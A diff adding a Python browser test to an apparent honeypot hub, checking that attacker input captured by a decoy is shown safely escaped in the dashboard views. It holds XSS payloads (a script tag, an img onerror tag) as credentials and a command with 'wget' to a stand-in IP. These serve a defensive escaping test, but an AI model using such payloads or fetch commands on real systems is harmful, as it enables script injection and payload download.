@@ -15,6 +15,7 @@ import time
 import urllib.parse
 
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
 
 from tanuki_test import BUILD, SAN_ENV, free_port  # noqa: E402
 from test_hub import HUB, TOKEN, Hub, pg_cluster, summary  # noqa: E402
@@ -299,3 +300,137 @@ def test_hub_metrics_prometheus():
         finally:
             p.terminate()
             p.wait(30)
+
+
+SCREENS = os.path.join(BUILD, "hub-screens")
+EVIL_USER = "<script>alert(1)</script>"
+EVIL_PASS = "\"'><img src=x onerror=alert(2)>\x01"
+EVIL_CMD = "echo '<script>alert(3)</script>' \"q\"; wget http://198.51.100.1/<b>x"
+
+
+def shown(s):
+    """What the page shows for s: control bytes and DEL as \\xNN."""
+    return "".join("\\x%02x" % ord(ch) if ord(ch) < 0x20 or ord(ch) == 0x7f else ch
+                   for ch in s)
+
+
+def cells(ch, table):
+    return ch.js("JSON.stringify([...document.querySelectorAll('#%s tr')].slice(1)"
+                 ".filter(r => !r.querySelector('.none'))"
+                 ".map(r => [...r.cells].map(c => c.textContent)))" % table)
+
+
+def test_hub_web_chromium():
+    """A real decoy attacked over telnet (with <script>, quotes and control
+    bytes in user names, passwords and a command) uplinks to a real hub;
+    headless Chromium logs in and opens every view: each number equals the
+    hub's API and `tanuki export` of the decoy's store, the attacker's text
+    is text in the DOM (no element it tried to make exists), and each view
+    is saved as a screenshot under build/hub-screens/."""
+    import test_uplink as up
+    from cdp import Chrome
+    from tanuki_test import Conn, Daemon, telnet_login
+    os.makedirs(SCREENS, exist_ok=True)
+    with Hub() as hub:
+        secret, pin = hub.enroll("decoy-w1")
+        add_user(hub)
+        d = Daemon(main={"sync_ms": "50"},
+                   extra=up.uplink_lines(hub, secret, pin, device="decoy-w1"))
+        with d:
+            up.attack(d, 16)
+            c = Conn(d.port)
+            telnet_login(c, EVIL_USER, EVIL_PASS)
+            c.read_until(b"ogin")
+            c.close()
+            user, pw, _ = sorted(up.persona_info("xiongmai-dvr")["creds"])[0]
+            c = Conn(d.port)
+            telnet_login(c, user, pw)
+            c.read_for(0.5)
+            c.send(EVIL_CMD + "\r\n")
+            c.read_for(0.5)
+            c.close()
+            d.wait_events(lambda evs: any(e["eventid"] == "cowrie.command.input"
+                                          for e in evs))
+            tot, ids, creds = up.wait_match(hub, d)
+            store_ids = dict(ids)
+        # the decoy is stopped: no summary arrives while the pages are read
+        tot = hub.api("/v1/totals")
+        api_creds = hub.api("/v1/credentials?limit=1000")["credentials"]
+        assert {"username": EVIL_USER, "password": EVIL_PASS, "count": 1} in api_creds
+        api_cmds = hub.api("/v1/commands?limit=1000")["commands"]
+        assert any(EVIL_CMD in x["input"] for x in api_cmds), api_cmds
+        base = "https://127.0.0.1:%d" % hub.port
+        with Chrome() as ch:
+            ch.goto(base + "/")
+            assert ch.js("location.pathname") == "/login"
+            ch.screenshot(os.path.join(SCREENS, "login.png"))
+            ch.submit("document.getElementById('user').value = 'admin';"
+                      "document.getElementById('password').value = %s;"
+                      "document.querySelector('form').submit()" % json.dumps(PASSWORD))
+            assert ch.js("location.pathname") == "/", ch.js("document.body.innerText")
+
+            def view(path, name):
+                ch.goto(base + path + ("&" if "?" in path else "?") + "range=24h")
+                assert ch.js("document.getElementById('title') !== null"), path
+                # nothing the attacker sent became an element or ran
+                bad = ch.js("document.querySelectorAll('script, img, iframe, object,"
+                            " embed, b').length")
+                assert bad == 0, (path, bad)
+                assert "store error" not in ch.js("document.body.innerText"), path
+                ch.screenshot(os.path.join(SCREENS, name + ".png"))
+
+            view("/", "overview")
+            assert int(ch.js("document.getElementById('t-summaries').textContent")) == \
+                tot["summaries"]
+            assert int(ch.js("document.getElementById('t-sessions').textContent")) == \
+                tot["sessions"]
+            by_event = {k: int(v) for k, v in json.loads(cells(ch, "by-event"))}
+            assert {k: v for k, v in by_event.items() if k.startswith("cowrie.")} == \
+                store_ids, (by_event, store_ids)
+            assert {k: int(v) for k, v in json.loads(cells(ch, "by-port"))} == \
+                {k: int(v) for k, v in tot["by_port"].items()}
+            ch.screenshot(os.path.join(SCREENS, "overview-phone.png"), width=390)
+
+            view("/credentials", "credentials")
+            pairs = json.loads(cells(ch, "pairs"))
+            assert sorted((u, p, int(n)) for u, p, n in pairs) == sorted(
+                (shown(x["username"]), shown(x["password"]), x["count"]) for x in api_creds)
+            assert {(u, p): int(n) for u, p, n in pairs} == {
+                (shown(u), shown(p)): n for (u, p), n in creds.items()}
+            assert [shown(EVIL_USER), shown(EVIL_PASS), "1"] in pairs, pairs
+
+            view("/sources", "sources")
+            assert {a: int(n) for a, n in json.loads(cells(ch, "sources"))} == {
+                x["ip"]: x["count"] for x in hub.api("/v1/sources")["sources"]}
+
+            view("/commands", "commands")
+            cmds = json.loads(cells(ch, "commands"))
+            assert sorted((t, int(n)) for t, n in cmds) == sorted(
+                (shown(x["input"]), x["count"]) for x in api_cmds)
+
+            view("/binaries", "binaries")
+            assert len(json.loads(cells(ch, "binaries"))) == \
+                len(hub.api("/v1/binaries")["binaries"])
+
+            view("/fleet", "fleet")
+            rows = json.loads(cells(ch, "fleet"))
+            dev = hub.api("/v1/devices")["devices"][0]
+            assert len(rows) == 1 and rows[0][0] == "decoy-w1", rows
+            assert rows[0][1] == dev["persona"] and rows[0][2] == dev["version"], rows
+            assert int(rows[0][-1]) == dev["last_seq"], rows
+            assert rows[0][6] == "%d / %d KB" % (dev["used_kb"], dev["quota_kb"]), rows
+
+            view("/search?q=" + urllib.parse.quote("<script>"), "search")
+            found = json.loads(cells(ch, "s-credentials"))
+            assert [shown(EVIL_USER), shown(EVIL_PASS), "1"] in found, found
+            assert any("<script>" in t for t, _ in json.loads(cells(ch, "s-commands")))
+
+            # logout through the page's own form (its CSRF token)
+            ch.submit("document.querySelector('form[action=\"/logout\"]').submit()")
+            assert ch.js("location.pathname") == "/login"
+            ch.goto(base + "/credentials")
+            assert ch.js("location.pathname") == "/login"
+        for n in ("login", "overview", "overview-phone", "credentials", "sources",
+                  "commands", "binaries", "fleet", "search"):
+            with open(os.path.join(SCREENS, n + ".png"), "rb") as f:
+                assert f.read(8) == b"\x89PNG\r\n\x1a\n", n
